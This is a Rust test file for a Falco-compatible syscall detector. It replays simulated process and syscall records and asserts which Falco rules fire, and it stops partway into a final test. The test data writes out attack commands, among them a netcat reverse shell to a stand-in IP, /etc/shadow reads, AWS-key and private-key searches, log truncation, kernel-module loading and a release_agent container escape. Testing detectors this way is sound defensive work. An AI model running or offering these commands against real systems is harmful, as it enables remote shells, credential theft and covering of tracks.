//! Falco's stable ruleset (../shared/upstream-rules/falco_rules.yaml, unmodified) on
//! replayed captures: each scenario is the record sequence the probe and /proc give
//! for one of falcosecurity/event-generator's syscall actions (or its container
//! variant), and must fire exactly the rules Falco fires, with Falco's rule name,
//! priority and output. Skipped, with the reason printed, when ../shared is absent.

mod common;

use common::*;
use kubeward_syscall::abi::{EXE_FROM_MEMFD, EXE_UPPER_LAYER, Sock};
use kubeward_syscall::decode::build::sock_bytes;

const AT_FDCWD: u64 = -100i64 as u64;

/// Falco's three syscall rulesets, in load order.
const ALL_SYSCALL_RULESETS: [&str; 3] = [
    "falco_rules.yaml",
    "falco-incubating_rules.yaml",
    "falco-sandbox_rules.yaml",
];

/// Upstream rules files loaded together, in order; `None` (saying why) when absent.
fn upstream_rules(names: &[&str]) -> Option<kubeward_rules::engine::Ruleset> {
    let texts = kubeward_testkit::upstream::read_all(names)?;
    let files: Vec<(&str, &str)> = names
        .iter()
        .zip(&texts)
        .map(|(n, t)| (*n, t.as_str()))
        .collect();
    Some(load(&files))
}

/// (priority, message) of each alert of `rule` on `sim`.
fn fired_only(
    rules: &kubeward_rules::engine::Ruleset,
    sim: Sim,
    rule: &str,
) -> Vec<(String, String)> {
    fire(rules, &sim.bytes())
        .into_iter()
        .filter(|f| f.rule == rule)
        .map(|f| (f.priority, f.message))
        .collect()
}

/// The messages a rule of the test's own with `output` gives on `sim`'s execs of `id`.
fn id_messages(output: &str, sim: Sim) -> Vec<String> {
    let rule = format!(
        "- rule: Id\n  desc: d\n  condition: evt.type = execve and proc.name = id\n  output: \"{output}\"\n  priority: NOTICE\n"
    );
    let rules = load(&[("id.yaml", &rule)]);
    fire(&rules, &sim.bytes())
        .into_iter()
        .map(|f| f.message)
        .collect()
}

fn stable() -> Option<kubeward_rules::engine::Ruleset> {
    let text = upstream("falco_rules.yaml")?;
    Some(load(&[("falco_rules.yaml", &text)]))
}

/// The host's process tree: systemd, an sshd, a root login shell on pts/0, an nginx.
fn host(sim: &mut Sim) {
    sim.existing(&p(
        1,
        0,
        "systemd",
        "/usr/lib/systemd/systemd",
        &["/sbin/init"],
    ));
    sim.existing(&p(500, 1, "sshd", "/usr/sbin/sshd", &["sshd: root@pts/0"]));
    let mut bash = p(600, 500, "bash", "/usr/bin/bash", &["-bash"]);
    bash.tty = TTY;
    bash.loginuid = 0;
    bash.sid = 600;
    sim.existing(&bash);
    sim.existing(&p(
        800,
        1,
        "nginx",
        "/usr/sbin/nginx",
        &["nginx: master process /usr/sbin/nginx"],
    ));
    let mut worker = p(
        801,
        800,
        "nginx",
        "/usr/sbin/nginx",
        &["nginx: worker process"],
    );
    worker.uid = 33;
    sim.existing(&worker);
}

/// A command run from the root shell on pts/0.
fn from_shell(pid: i64, comm: &'static str, exepath: &'static str, argv: &[&'static str]) -> P {
    let mut c = p(pid, 600, comm, exepath, argv);
    c.tty = TTY;
    c.loginuid = 0;
    c.sid = 600;
    c
}

fn one(rule: &str, priority: &str, message: &str) -> Vec<Fired> {
    vec![Fired {
        rule: rule.into(),
        priority: priority.into(),
        message: message.into(),
    }]
}

fn check(sim: Sim, expected: Vec<Fired>) {
    let Some(rules) = stable() else { return };
    let got = fire(&rules, &sim.bytes());
    assert_eq!(got, expected);
}

#[test]
fn stable_ruleset_loads_active_with_its_event_types() {
    let Some(rules) = stable() else { return };
    let id = rules.source_id("syscall").expect("source");
    assert_eq!(rules.inactive(), Vec::<(String, usize)>::new());
    let types = rules
        .event_types(id)
        .expect("every stable rule narrows evt.type");
    let want = [
        "connect",
        "dup",
        "dup2",
        "dup3",
        "execve",
        "execveat",
        "finit_module",
        "init_module",
        "link",
        "linkat",
        "open",
        "openat",
        "openat2",
        "ptrace",
        "sendmsg",
        "sendto",
        "socket",
        "symlink",
        "symlinkat",
    ];
    assert_eq!(types.iter().map(String::as_str).collect::<Vec<_>>(), want);
    for t in &types {
        assert!(
            kubeward_syscall::syscalls::by_name(t).is_some(),
            "{t} is captured"
        );
    }
}

#[test]
fn all_three_syscall_rulesets_load_and_every_type_they_name_is_captured() {
    let Some(rules) = upstream_rules(&ALL_SYSCALL_RULESETS) else {
        return;
    };
    assert!(rules.inactive().is_empty());
    assert!(rules.rules().filter(|(_, r)| r.source == "syscall").count() > 90);
    let types = rules
        .event_types(rules.source_id("syscall").expect("source"))
        .expect("types");
    let missing: Vec<&String> = types
        .iter()
        .filter(|t| kubeward_syscall::syscalls::by_name(t).is_none())
        .collect();
    assert!(missing.is_empty(), "not captured: {missing:?}");
}

#[test]
fn read_sensitive_file_untrusted() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        700,
        "cat",
        "/usr/bin/cat",
        &["cat", "/etc/shadow"],
    ));
    sim.syscall(700, 257, 3, &[AT_FDCWD, 0, 0, 0], &[&cstr("/etc/shadow")]);
    check(
        sim,
        one(
            "Read sensitive file untrusted",
            "Warning",
            "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=systemd gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=0 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34816",
        ),
    );
}

#[test]
fn a_failed_or_write_open_of_a_sensitive_file_is_no_read() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        700,
        "cat",
        "/usr/bin/cat",
        &["cat", "/etc/shadow"],
    ));
    // EACCES: no fd, so open_read does not hold.
    sim.syscall(700, 257, -13, &[AT_FDCWD, 0, 0, 0], &[&cstr("/etc/shadow")]);
    // O_WRONLY
    sim.syscall(700, 257, 4, &[AT_FDCWD, 0, 1, 0], &[&cstr("/etc/shadow")]);
    check(sim, vec![]);
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.syscall(801, 257, 9, &[AT_FDCWD, 0, 0, 0], &[&cstr("/etc/shadow")]);
    check(
        sim,
        vec![
            Fired {
                rule: "Read sensitive file trusted after startup".into(),
                priority: "Warning".into(),
                message: "Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=nginx gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=www-data user_uid=33 user_loginuid=-1 process=nginx proc_exepath=/usr/sbin/nginx parent=nginx command=nginx terminal=0".into(),
            },
            Fired {
                rule: "Read sensitive file untrusted".into(),
                priority: "Warning".into(),
                message: "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=www-data user_uid=33 user_loginuid=-1 process=nginx proc_exepath=/usr/sbin/nginx parent=nginx command=nginx terminal=0".into(),
            },
        ],
    );
}

#[test]
fn directory_traversal_monitored_file_read() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.syscall(
        801,
        257,
        10,
        &[AT_FDCWD, 0, 0, 0],
        &[&cstr("/var/www/html/../../../etc/passwd")],
    );
    check(
        sim,
        one(
            "Directory traversal monitored file read",
            "Warning",
            "Read monitored file via directory traversal | file=/etc/passwd fileraw=/var/www/html/../../../etc/passwd gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=www-data user_uid=33 user_loginuid=-1 process=nginx proc_exepath=/usr/sbin/nginx parent=nginx command=nginx terminal=0",
        ),
    );
}

#[test]
fn run_shell_untrusted() {
    let mut sim = Sim::new();
    host(&mut sim);
    let mut sh = p(802, 801, "sh", "/usr/bin/dash", &["sh", "-c", "id"]);
    sh.uid = 33;
    sim.spawn(&sh);
    check(
        sim,
        one(
            "Run shell untrusted",
            "Notice",
            "Shell spawned by untrusted binary | parent_exe=nginx: worker process parent_exepath=/usr/sbin/nginx pcmdline=nginx gparent=nginx ggparent=systemd aname[4]=<NA> aname[5]=<NA> aname[6]=<NA> aname[7]=<NA> evt_type=execve user=www-data user_uid=33 user_loginuid=-1 process=sh proc_exepath=/usr/bin/dash parent=nginx command=sh -c id terminal=0 exe_flags=0",
        ),
    );
}

#[test]
fn system_user_interactive() {
    let mut sim = Sim::new();
    host(&mut sim);
    let mut sh = p(920, 500, "bash", "/usr/bin/bash", &["bash"]);
    sh.uid = 33;
    sh.loginuid = 33;
    sh.tty = TTY;
    sim.spawn(&sh);
    check(
        sim,
        one(
            "System user interactive",
            "Informational",
            "System user ran an interactive command | evt_type=execve user=www-data user_uid=33 user_loginuid=33 process=bash proc_exepath=/usr/bin/bash parent=sshd command=bash terminal=34816 exe_flags=0",
        ),
    );
}

#[test]
fn search_private_keys_or_passwords() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        710,
        "grep",
        "/usr/bin/grep",
        &["grep", "-r", "BEGIN RSA PRIVATE", "/home"],
    ));
    sim.spawn(&from_shell(
        711,
        "find",
        "/usr/bin/find",
        &["find", "/", "-name", "id_rsa"],
    ));
    check(
        sim,
        vec![
            Fired {
                rule: "Search Private Keys or Passwords".into(),
                priority: "Warning".into(),
                message: "Grep private keys or passwords activities found | evt_type=execve user=root user_uid=0 user_loginuid=0 process=grep proc_exepath=/usr/bin/grep parent=bash command=grep -r BEGIN RSA PRIVATE /home terminal=34816 exe_flags=0".into(),
            },
            Fired {
                rule: "Search Private Keys or Passwords".into(),
                priority: "Warning".into(),
                message: "Grep private keys or passwords activities found | evt_type=execve user=root user_uid=0 user_loginuid=0 process=find proc_exepath=/usr/bin/find parent=bash command=find / -name id_rsa terminal=34816 exe_flags=0".into(),
            },
        ],
    );
}

#[test]
fn find_aws_credentials() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        720,
        "grep",
        "/usr/bin/grep",
        &["grep", "aws_secret_access_key", "/root/.aws/credentials"],
    ));
    check(
        sim,
        one(
            "Find AWS Credentials",
            "Warning",
            "Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/root group_gid=0 group_name=root user_loginname=root evt_type=execve user=root user_uid=0 user_loginuid=0 process=grep proc_exepath=/usr/bin/grep parent=bash command=grep aws_secret_access_key /root/.aws/credentials terminal=34816 exe_flags=0",
        ),
    );
}

#[test]
fn clear_log_activities() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        730,
        "truncate",
        "/usr/bin/truncate",
        &["truncate", "-s", "0", "/var/log/auth.log"],
    ));
    // O_WRONLY|O_CREAT|O_TRUNC
    sim.syscall(
        730,
        257,
        3,
        &[AT_FDCWD, 0, 0o1101, 0o666],
        &[&cstr("/var/log/auth.log")],
    );
    check(
        sim,
        one(
            "Clear Log Activities",
            "Warning",
            "Log files were tampered | file=/var/log/auth.log evt_type=openat user=root user_uid=0 user_loginuid=0 process=truncate proc_exepath=/usr/bin/truncate parent=bash command=truncate -s 0 /var/log/auth.log terminal=34816",
        ),
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        740,
        "shred",
        "/usr/bin/shred",
        &["shred", "-u", "/tmp/secret"],
    ));
    check(
        sim,
        one(
            "Remove Bulk Data from Disk",
            "Warning",
            "Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 user_loginuid=0 process=shred proc_exepath=/usr/bin/shred parent=bash command=shred -u /tmp/secret terminal=34816 exe_flags=0",
        ),
    );
}

#[test]
fn create_symlink_and_hardlink_over_sensitive_files() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        750,
        "ln",
        "/usr/bin/ln",
        &["ln", "-s", "/etc/shadow", "/tmp/shadow_link"],
    ));
    sim.syscall(
        750,
        266,
        0,
        &[0, AT_FDCWD, 0],
        &[&cstr("/etc/shadow"), &cstr("/tmp/shadow_link")],
    );
    sim.spawn(&from_shell(
        751,
        "ln",
        "/usr/bin/ln",
        &["ln", "/etc/shadow", "shadow_hard"],
    ));
    sim.syscall(
        751,
        265,
        0,
        &[AT_FDCWD, 0, AT_FDCWD, 0, 0],
        &[&cstr("/etc/shadow"), &cstr("shadow_hard")],
    );
    // A link to a file that is not sensitive.
    sim.syscall(
        751,
        265,
        0,
        &[AT_FDCWD, 0, AT_FDCWD, 0, 0],
        &[&cstr("/etc/hostname"), &cstr("h")],
    );
    check(
        sim,
        vec![
            Fired {
                rule: "Create Symlink Over Sensitive Files".into(),
                priority: "Warning".into(),
                message: "Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/shadow_link evt_type=symlinkat user=root user_uid=0 user_loginuid=0 process=ln proc_exepath=/usr/bin/ln parent=bash command=ln -s /etc/shadow /tmp/shadow_link terminal=34816".into(),
            },
            Fired {
                rule: "Create Hardlink Over Sensitive Files".into(),
                priority: "Warning".into(),
                message: "Hardlinks created over sensitive files | target=/etc/shadow linkpath=/root/shadow_hard evt_type=linkat user=root user_uid=0 user_loginuid=0 process=ln proc_exepath=/usr/bin/ln parent=bash command=ln /etc/shadow shadow_hard terminal=34816".into(),
            },
        ],
    );
}

#[test]
fn ptrace_attach_and_anti_debug() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        760,
        "strace",
        "/usr/bin/strace",
        &["strace", "-p", "600"],
    ));
    sim.syscall(760, 101, 0, &[16, 600, 0, 0], &[]);
    sim.spawn(&from_shell(
        761,
        "antidebug",
        "/tmp/antidebug",
        &["./antidebug"],
    ));
    sim.syscall(761, 101, 0, &[0, 0, 0, 0], &[]);
    // PTRACE_PEEKDATA is neither.
    sim.syscall(760, 101, 0, &[2, 600, 0, 0], &[]);
    check(
        sim,
        vec![
            Fired {
                rule: "PTRACE attached to process".into(),
                priority: "Warning".into(),
                message: "Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash evt_type=ptrace user=root user_uid=0 user_loginuid=0 process=strace proc_exepath=/usr/bin/strace parent=bash command=strace -p 600 terminal=34816".into(),
            },
            Fired {
                rule: "PTRACE anti-debug attempt".into(),
                priority: "Notice".into(),
                message: "Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=bash evt_type=ptrace user=root user_uid=0 user_loginuid=0 process=antidebug proc_exepath=/tmp/antidebug parent=bash command=antidebug terminal=34816".into(),
            },
        ],
    );
}

#[test]
fn execution_from_dev_shm() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        770,
        "payload",
        "/dev/shm/payload",
        &["/dev/shm/payload"],
    ));
    check(
        sim,
        one(
            "Execution from /dev/shm",
            "Warning",
            "File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/root proc_pcmdline=bash user_loginname=root group_gid=0 group_name=root evt_type=execve user=root user_uid=0 user_loginuid=0 process=payload proc_exepath=/dev/shm/payload parent=bash command=payload terminal=34816 exe_flags=0",
        ),
    );
}

#[test]
fn fileless_execution_via_memfd_create() {
    let mut sim = Sim::new();
    host(&mut sim);
    let mut m = from_shell(780, "3", "memfd:program", &["program"]);
    m.exe_flags = EXE_FROM_MEMFD;
    sim.spawn(&m);
    check(
        sim,
        one(
            "Fileless execution via memfd_create",
            "Critical",
            "Fileless execution via memfd_create | container_start_ts=<NA> proc_cwd=/root evt_res=SUCCESS proc_sname=bash gparent=sshd evt_type=execve user=root user_uid=0 user_loginuid=0 process=3 proc_exepath=memfd:program parent=bash command=3 terminal=34816 exe_flags=EXE_FROM_MEMFD",
        ),
    );
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        790,
        "ssh",
        "/usr/bin/ssh",
        &["ssh", "-p", "443", "user@203.0.113.9"],
    ));
    let fresh = Sock {
        family: 2,
        sock_type: 1,
        protocol: 6,
        ..Sock::default()
    };
    sim.syscall(790, 41, 3, &[2, 1, 6], &[&sock_bytes(&fresh)]);
    let addr = [2u8, 0, 0x01, 0xbb, 203, 0, 113, 9, 0, 0, 0, 0, 0, 0, 0, 0];
    let mut connected = fresh;
    connected.saddr[..4].copy_from_slice(&[10, 0, 0, 5]);
    connected.sport = 40000;
    connected.daddr[..4].copy_from_slice(&[203, 0, 113, 9]);
    connected.dport = 443u16.to_be();
    sim.syscall(790, 42, 0, &[3, 0, 16], &[&addr, &sock_bytes(&connected)]);
    // The same to a private address is not outbound.
    sim.syscall(790, 41, 4, &[2, 1, 6], &[&sock_bytes(&fresh)]);
    let private = [2u8, 0, 0x01, 0xbb, 10, 0, 0, 9, 0, 0, 0, 0, 0, 0, 0, 0];
    let mut inside = connected;
    inside.daddr[..4].copy_from_slice(&[10, 0, 0, 9]);
    sim.syscall(790, 42, 0, &[4, 0, 16], &[&private, &sock_bytes(&inside)]);
    check(
        sim,
        one(
            "Disallowed SSH Connection Non Standard Port",
            "Notice",
            "Disallowed SSH Connection | connection=10.0.0.5:40000->203.0.113.9:443 lport=40000 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 user_loginuid=0 process=ssh proc_exepath=/usr/bin/ssh parent=bash command=ssh -p 443 user@203.0.113.9 terminal=34816",
        ),
    );
}

/// A container started by containerd's shim (cri-containerd cgroup), its users loaded.
fn container(sim: &mut Sim) -> P {
    host(sim);
    sim.existing(&p(
        2000,
        1,
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        &["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io"],
    ));
    sim.users(&CID[..12], PASSWD, GROUP);
    let mut sh = p(2100, 2000, "bash", "/usr/bin/bash", &["bash"]);
    sh.cgroup = container_cgroup();
    sh.tty = TTY;
    sh.sid = 2100;
    sh
}

#[test]
fn terminal_shell_in_container() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.spawn(&sh);
    check(
        sim,
        one(
            "Terminal shell in container",
            "Notice",
            "A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816 exe_flags=0",
        ),
    );
}

#[test]
fn netcat_remote_code_execution_in_container() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.existing(&sh);
    let mut nc = p(
        2110,
        2100,
        "nc",
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"],
    );
    nc.cgroup = container_cgroup();
    nc.tty = TTY;
    sim.spawn(&nc);
    check(
        sim,
        one(
            "Netcat Remote Code Execution in Container",
            "Warning",
            "Netcat runs inside container that allows remote code execution | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc parent=bash command=nc -e /bin/sh 198.51.100.7 4444 terminal=34816 exe_flags=0",
        ),
    );
}

#[test]
fn redirect_stdout_to_network_connection_in_container() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.existing(&sh);
    let fresh = Sock {
        family: 2,
        sock_type: 1,
        protocol: 6,
        ..Sock::default()
    };
    sim.syscall(2100, 41, 3, &[2, 1, 0], &[&sock_bytes(&fresh)]);
    let addr = [2u8, 0, 0x11, 0x5c, 198, 51, 100, 7, 0, 0, 0, 0, 0, 0, 0, 0];
    let mut c = fresh;
    c.saddr[..4].copy_from_slice(&[172, 17, 0, 2]);
    c.sport = 45000;
    c.daddr[..4].copy_from_slice(&[198, 51, 100, 7]);
    c.dport = 4444u16.to_be();
    sim.syscall(2100, 42, 0, &[3, 0, 16], &[&addr, &sock_bytes(&c)]);
    sim.syscall(2100, 33, 0, &[3, 0], &[]);
    check(
        sim,
        one(
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "Notice",
            "Redirect stdout/stdin to network connection | gparent=systemd ggparent=<NA> gggparent=<NA> fd.sip=198.51.100.7 connection=172.17.0.2:45000->198.51.100.7:4444 lport=4444 rport=45000 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816",
        ),
    );
}

#[test]
fn linux_kernel_module_injection_in_container() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.existing(&sh);
    let mut ins = p(
        2120,
        2100,
        "insmod",
        "/usr/sbin/kmod",
        &["insmod", "evil.ko"],
    );
    ins.cgroup = container_cgroup();
    sim.spawn(&ins);
    sim.syscall(2120, 313, 0, &[3, 0, 0], &[&cstr("")]);
    check(
        sim,
        one(
            "Linux Kernel Module Injection Detected",
            "Warning",
            "Linux Kernel Module injection from container | parent_exepath=/usr/bin/bash gparent=containerd-shim gexepath=/usr/bin/containerd-shim-runc-v2 module=evil.ko res=SUCCESS evt_type=finit_module user=root user_uid=0 user_loginuid=-1 process=insmod proc_exepath=/usr/sbin/kmod parent=bash command=insmod evil.ko terminal=0",
        ),
    );
}

#[test]
fn release_agent_container_escape() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    let mut sh = sh;
    sh.caps = (1 << 1) | (1 << 21);
    sim.existing(&sh);
    sim.syscall(
        2100,
        257,
        3,
        &[AT_FDCWD, 0, 1, 0],
        &[&cstr("/sys/fs/cgroup/rdma/release_agent")],
    );
    check(
        sim,
        one(
            "Detect release_agent File Container Escapes",
            "Critical",
            "Detect an attempt to exploit a container escape using release_agent file | file=/sys/fs/cgroup/rdma/release_agent cap_effective=CAP_DAC_OVERRIDE CAP_SYS_ADMIN evt_type=openat user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816",
        ),
    );
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.existing(&sh);
    let mut dropped = p(2130, 2100, "x", "/tmp/x", &["/tmp/x"]);
    dropped.cgroup = container_cgroup();
    dropped.exe_flags = EXE_UPPER_LAYER;
    dropped.sid = 2100;
    sim.spawn(&dropped);
    check(
        sim,
        one(
            "Drop and execute new binary in container",
            "Critical",
            "Executing binary not part of base image | proc_exe=/tmp/x proc_sname=bash gparent=containerd-shim proc_exe_ino_ctime=<NA> proc_exe_ino_mtime=<NA> proc_exe_ino_ctime_duration_proc_start=<NA> proc_cwd=/root container_start_ts=<NA> evt_type=execve user=root user_uid=0 user_loginuid=-1 process=x proc_exepath=/tmp/x parent=bash command=x terminal=0 exe_flags=EXE_UPPER_LAYER",
        ),
    );
}

#[test]
fn packet_socket_created_in_container() {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.existing(&sh);
    let s = Sock {
        family: 17,
        sock_type: 3,
        protocol: 768,
        ..Sock::default()
    };
    sim.syscall(2100, 41, 3, &[17, 3, 768], &[&sock_bytes(&s)]);
    check(
        sim,
        one(
            "Packet socket created in container",
            "Notice",
            "Packet socket was created in a container | socket_info=fd=3(<o>) domain=17(AF_PACKET) type=3 proto=768 connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> evt_type=socket user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816",
        ),
    );
}

#[test]
fn container_rules_need_a_container_and_metadata_rules_stay_quiet() {
    let mut sim = Sim::new();
    host(&mut sim);
    // A terminal shell and netcat on the host: not in a container.
    let mut sh = p(930, 500, "bash", "/usr/bin/bash", &["bash"]);
    sh.tty = TTY;
    sim.spawn(&sh);
    sim.spawn(&p(
        931,
        930,
        "nc",
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "h", "1"],
    ));
    // debugfs in a container: container.privileged comes from the runtime, unknown here.
    let c = container(&mut Sim::new());
    let mut dbg = p(
        2200,
        2000,
        "debugfs",
        "/usr/sbin/debugfs",
        &["debugfs", "/dev/sda1"],
    );
    dbg.cgroup = c.cgroup.clone();
    sim.spawn(&dbg);
    check(sim, vec![]);
}

#[test]
fn benign_activity_raises_nothing() {
    let mut sim = Sim::new();
    host(&mut sim);
    sim.spawn(&from_shell(
        701,
        "cat",
        "/usr/bin/cat",
        &["cat", "/etc/hostname"],
    ));
    sim.syscall(701, 257, 3, &[AT_FDCWD, 0, 0, 0], &[&cstr("/etc/hostname")]);
    sim.syscall(701, 3, 0, &[3], &[]);
    sim.exit(701);
    sim.spawn(&from_shell(
        702,
        "ls",
        "/usr/bin/ls",
        &["ls", "-la", "/tmp"],
    ));
    sim.syscall(702, 257, 3, &[AT_FDCWD, 0, 0o2200000, 0], &[&cstr("/tmp")]);
    sim.exit(702);
    // nginx's worker spawned by its master is not a shell.
    sim.spawn(&p(
        803,
        800,
        "nginx",
        "/usr/sbin/nginx",
        &["nginx: worker process"],
    ));
    check(sim, vec![]);
}

/// What the node's pod watch says of the test container.
fn pod_metadata(privileged: bool) -> kubeward_syscall::state::Snapshot {
    let mount = |source: &str, dest: &str, rdwr: bool| kubeward_syscall::meta::Mount {
        source: source.into(),
        dest: dest.into(),
        rdwr,
        propagation: "rprivate".into(),
        ..Default::default()
    };
    kubeward_syscall::state::Snapshot::Container(std::sync::Arc::new(
        kubeward_syscall::meta::ContainerMeta {
            runtime: "containerd".into(),
            mounts: vec![
                mount("/proc", "/host/proc", false),
                mount(
                    "/var/lib/kubelet/pods/0c1d/volumes/kubernetes.io~empty-dir/cache",
                    "/cache",
                    true,
                ),
            ],
            id: CID[..12].into(),
            name: "tools".into(),
            image: "registry.local:5000/ops/tools:2.1".into(),
            image_id: "registry.local:5000/ops/tools@sha256:0f".into(),
            privileged,
            pod_name: "tools-7d9".into(),
            pod_namespace: "ops".into(),
            pod_uid: "0c1d".into(),
            pod_ip: "10.244.1.7".into(),
            pod_labels: vec![
                ("app".into(), "tools".into()),
                ("team".into(), "sre".into()),
            ],
            ..Default::default()
        },
    ))
}

#[test]
fn debugfs_in_a_container_the_pod_watch_calls_privileged() {
    for privileged in [true, false] {
        let mut sim = Sim::new();
        let sh = container(&mut sim);
        sim.existing(&sh);
        sim.snapshot(pod_metadata(privileged));
        let mut dbg = p(
            2200,
            2100,
            "debugfs",
            "/usr/sbin/debugfs",
            &["debugfs", "/dev/sda1"],
        );
        dbg.cgroup = sh.cgroup.clone();
        dbg.tty = TTY;
        sim.spawn(&dbg);
        let expected = if privileged {
            one(
                "Debugfs Launched in Privileged Container",
                "Warning",
                "Debugfs launched started in a privileged container | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=debugfs proc_exepath=/usr/sbin/debugfs parent=bash command=debugfs /dev/sda1 terminal=34816 exe_flags=0",
            )
        } else {
            vec![]
        };
        check(sim, expected);
    }
}

/// The test container (metadata from the pod watch or not) running `id`, in the
/// container or on the host.
fn id_run(with_metadata: bool, in_container: bool) -> Sim {
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.existing(&sh);
    if with_metadata {
        sim.snapshot(pod_metadata(true));
    }
    let mut id = p(2300, 2100, "id", "/usr/bin/id", &["id"]);
    if in_container {
        id.cgroup = sh.cgroup.clone();
    }
    sim.spawn(&id);
    sim
}

#[test]
fn container_and_pod_fields_come_from_the_pod_watch() {
    let output = "c=%container.id n=%container.name i=%container.image r=%container.image.repository t=%container.image.tag d=%container.image.digest p=%container.privileged ns=%k8s.ns.name pod=%k8s.pod.name uid=%k8s.pod.uid ip=%k8s.pod.ip labels=(%k8s.pod.labels) app=%k8s.pod.label[app] none=%k8s.pod.label[nope]";
    assert_eq!(
        id_messages(output, id_run(true, true)),
        [
            "c=3ad7b26ded6d n=tools i=registry.local:5000/ops/tools:2.1 r=registry.local:5000/ops/tools t=2.1 d=sha256:0f p=true ns=ops pod=tools-7d9 uid=0c1d ip=10.244.1.7 labels=(app:tools, team:sre) app=tools none=<NA>"
        ]
    );
    // Without a cluster the container's metadata is not available, as in Falco.
    assert_eq!(
        id_messages(output, id_run(false, true)),
        [
            "c=3ad7b26ded6d n=<NA> i=<NA> r=<NA> t=<NA> d=<NA> p=<NA> ns=<NA> pod=<NA> uid=<NA> ip=<NA> labels=(<NA>) app=<NA> none=<NA>"
        ]
    );
    // On the host: the container plugin's host values, no pod.
    assert_eq!(
        id_messages(output, id_run(true, false)),
        [
            "c=host n=host i= r= t= d= p=false ns=<NA> pod=<NA> uid=<NA> ip=<NA> labels=(<NA>) app=<NA> none=<NA>"
        ]
    );
}

#[test]
fn environment_rules_of_the_incubating_ruleset() {
    let Some(rules) = upstream_rules(&["falco_rules.yaml", "falco-incubating_rules.yaml"]) else {
        return;
    };
    let mut sim = Sim::new();
    host(&mut sim);
    let mut curl = from_shell(710, "curl", "/usr/bin/curl", &["curl", "-s", "example.com"]);
    curl.env = vec!["HOME=/root", "HTTP_PROXY=http://10.0.0.9:3128"];
    sim.spawn(&curl);
    let mut su = from_shell(711, "su", "/usr/bin/su", &["su", "-"]);
    su.env = vec!["GLIBC_TUNABLES=glibc.tune.elision=1", "PATH=/bin"];
    sim.spawn(&su);
    // Not proxied: nothing from the proxy rule.
    sim.spawn(&from_shell(712, "wget", "/usr/bin/wget", &["wget", "x"]));
    let fired: Vec<(String, String)> = fire(&rules, &sim.bytes())
        .into_iter()
        .filter(|f| f.message.contains("env="))
        .map(|f| (f.rule, f.message))
        .collect();
    assert_eq!(
        fired,
        [
            (
                "Program run with disallowed http proxy env".to_owned(),
                "Curl or wget run with disallowed HTTP_PROXY environment variable | env=HOME=/root HTTP_PROXY=http://10.0.0.9:3128 evt_type=execve user=root user_uid=0 user_loginuid=0 process=curl proc_exepath=/usr/bin/curl parent=bash command=curl -s example.com terminal=34816 exe_flags=0".to_owned()
            ),
            (
                "Potential Local Privilege Escalation via Environment Variables Misuse".to_owned(),
                "Process run with suspect environment variable which could be attempting privilege escalation | env=GLIBC_TUNABLES=glibc.tune.elision=1 PATH=/bin evt_type=execve user=root user_uid=0 user_loginuid=0 process=su proc_exepath=/usr/bin/su parent=bash command=su - terminal=34816 exe_flags=0".to_owned()
            ),
        ]
    );
}

#[test]
fn one_variable_of_the_environment() {
    let mut sim = Sim::new();
    host(&mut sim);
